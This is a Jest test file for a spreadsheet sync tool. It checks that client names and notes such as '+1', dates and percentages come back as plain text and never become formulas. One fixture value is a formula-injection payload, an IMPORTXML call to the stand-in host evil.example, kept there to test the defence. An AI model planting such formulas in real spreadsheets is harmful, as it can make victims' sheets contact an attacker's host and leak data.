import { describe, expect, test } from '@jest/globals';
import { defaultSwitches, type Switches } from '../../src/local/engine/switches';
import type { ProvidersState } from '../../src/local/providers/providers-state';
import { BundleFirm } from '../support/bundle-firm';
import { smallFirm } from '../support/small-firm';

/** Names that a spreadsheet would take for a formula, a number or a date. */
const NAMES = [
  '=IMPORTXML("https://evil.example","//a")',
  '01234',
  '1-2',
  '+1',
  '@x',
  '-2+3',
  "'quoted",
  '1e5',
  'TRUE',
  '2026-03-01',
  '10%',
  '€45',
  ' padded ',
];

/** The small firm whose clients have other names, the same everywhere. */
function firmWith(names: readonly string[]): ProvidersState {
  const firm = smallFirm();
  const { lists } = firm.harvest;
  const [first] = lists.clients;
  if (!first) throw new Error('the firm has no client');
  const clients = names.map((name, index) => ({ ...first, id: 9_000 + index, name }));
  const [entry] = lists.time_entries;
  if (!entry) throw new Error('the firm has no entry');
  const time_entries = clients.map(({ id, name }, index) => ({
    ...entry,
    id: 80_000 + index,
    client: { id, name, currency: 'USD' },
    notes: name,
  }));
  return {
    ...firm,
    harvest: { ...firm.harvest, lists: { ...lists, clients, time_entries, expenses: [] } },
  };
}

const settings: readonly Switches[] = [
  defaultSwitches,
  { ...defaultSwitches, textFormatHidesApostrophe: false },
  { ...defaultSwitches, textFormatStopsFormulas: false },
  { ...defaultSwitches, textFormatHidesApostrophe: false, textFormatStopsFormulas: false },
  { ...defaultSwitches, deferredWriteErrors: false, appendRowGrowsGrid: false },
];

describe.each(settings)('with %j', (switches) => {
  test('text of the tracker comes back as it was, and no cell holds a formula', () => {
    const firm = BundleFirm.connected(firmWith(NAMES), { switches, locale: 'de_DE' });
    expect(firm.press('pull').status).toBe('done');
    expect(firm.press('review').status).toBe('done');
    for (const [tab, column] of [
      ['Clients', 'Client'],
      ['Time', 'Client'],
      ['Time', 'Notes'],
    ] as const) {
      const texts = firm.rows(tab).map((row) => row[column]);
      expect([tab, column, ...texts.sort()]).toEqual([tab, column, ...[...NAMES].sort()]);
    }
    expect(firm.formulas()).toEqual([]);
    const before = firm.tab('Clients');
    expect(firm.press('pull').message).toContain('nothing new');
    expect(firm.tab('Clients')).toEqual(before);
  });
});
